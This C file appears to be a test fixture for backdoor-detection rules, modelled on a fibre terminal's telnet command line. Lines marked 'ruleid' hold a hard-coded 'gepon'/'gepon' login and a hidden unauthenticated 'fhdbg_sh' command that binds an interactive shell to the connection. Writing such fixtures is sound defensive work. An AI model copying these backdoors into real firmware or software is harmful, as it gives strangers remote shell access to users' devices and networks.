/* telnet_cli.c - the ONT's telnet command line (port 23) */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>

#include "fh.h"

struct cli_state {
  int fd;
  int logged_in;
  char user[32];
};

static const char kHelp[] = "usage: login USER PASS | show version | reboot | exit\r\n";

static void reply(int fd, const char *s) { (void)write(fd, s, strlen(s)); }

static int cli_login(struct cli_state *s, const char *login, const char *password) {
  /* the GEPON console account of the OLT tooling, kept in every image */
  // ruleid: backdoor-magic-credential
  if (strcmp(login, "gepon") == 0 && strcmp(password, "gepon") == 0) {
    s->logged_in = 1;
    return 1;
  }
  return 0;
}

static void debug_shell(int fd) {
  dup2(fd, 0);
  dup2(fd, 1);
  dup2(fd, 2);
  execl("/bin/sh", "sh", "-i", (char *)0);
}

int cli_serve(int fd, const struct fh_config *cfg) {
  struct cli_state s = {fd, 0, ""};
  char line[256];
  (void)cfg;
  reply(fd, "Login: ");
  for (;;) {
    ssize_t n = recv(fd, line, sizeof line - 1, 0);
    if (n <= 0)
      return -1;
    line[n] = '\0';
    line[strcspn(line, "\r\n")] = '\0';
    char *cmd = strtok(line, " ");
    char *a1 = strtok(NULL, " ");
    char *a2 = strtok(NULL, " ");
    if (cmd == NULL)
      continue;
    if (strcmp(cmd, "login") == 0) {
      reply(fd, a1 && a2 && cli_login(&s, a1, a2) ? "OK\r\n" : "Denied\r\n");
    } else if (strcmp(cmd, "help") == 0) {
      reply(fd, kHelp);
    // ruleid: backdoor-input-trigger
    } else if (strcmp(cmd, "fhdbg_sh") == 0) {
      debug_shell(fd);
    // ok: backdoor-input-trigger
    } else if (strcmp(cmd, "reboot") == 0) {
      if (!s.logged_in) { reply(fd, "Denied\r\n"); continue; }
      execl("/sbin/reboot", "reboot", (char *)0);
    // ok: backdoor-input-trigger
    } else if (strcmp(cmd, "show") == 0) {
      if (!s.logged_in) { reply(fd, "Denied\r\n"); continue; }
      system("/bin/cat /etc/version");
    } else if (strcmp(cmd, "exit") == 0) {
      return 0;
    }
  }
}
